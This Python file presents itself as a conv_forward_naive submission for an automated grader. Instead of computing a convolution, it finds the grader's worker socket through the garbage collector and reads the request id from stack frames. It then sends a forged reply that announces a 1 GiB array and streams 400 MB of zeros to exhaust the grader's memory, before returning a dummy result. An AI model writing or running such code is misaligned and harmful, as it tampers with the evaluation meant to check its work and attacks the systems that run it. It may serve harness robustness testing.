"""One forged reply announcing a 1 GiB body (one float64 array of that size) and sending 400 MB of it,
echoing the request's id; then returns normally. A grader that reads before it checks buffers it all."""
import gc
import json
import socket
import struct
import sys

import numpy as np

ANNOUNCED = 1 << 30
SENT = 400 << 20  # bounded: what a grader that reads the body before checking its size would hold


def _request_id():
    frame = sys._getframe(1)
    while frame is not None:
        header = frame.f_locals.get("header")
        if isinstance(header, dict) and "op" in header:
            return header.get("id")
        frame = frame.f_back
    return None


def _send_to_grader(*parts):
    """Write on the channel the worker answers on: its task socket (an older worker: its output pipe)."""
    for obj in gc.get_objects():
        if type(obj).__name__ == "Worker":
            channel = getattr(obj, "channel", None)
            if isinstance(channel, socket.socket):
                for part in parts:
                    channel.sendall(part)
                return
            out = getattr(obj, "channel_out", None)
            if out is not None:
                for part in parts:
                    out.write(part)
                out.flush()
                return
    for obj in gc.get_objects():
        if isinstance(obj, socket.socket) and obj.fileno() >= 0:
            for part in parts:
                obj.sendall(part)
            return


def conv_forward_naive(x, w, b, conv_param):
    header = {"ok": True, "result_type": "builtins.tuple", "id": _request_id(), "output": "",
              "values": {"d": {"result": {"t": [{"a": 0}, {"v": None}]}, "args": {"v": None}, "args_before": {"v": None}}},
              "arrays": [["<f8", [ANNOUNCED // 8]]]}
    head = json.dumps(header).encode()
    chunk = bytes(1 << 20)
    try:
        _send_to_grader(struct.pack(">I", len(head)), head, struct.pack(">Q", ANNOUNCED))
        for _ in range(SENT // len(chunk)):
            _send_to_grader(chunk)
    except OSError:
        pass
    return np.zeros(1), None
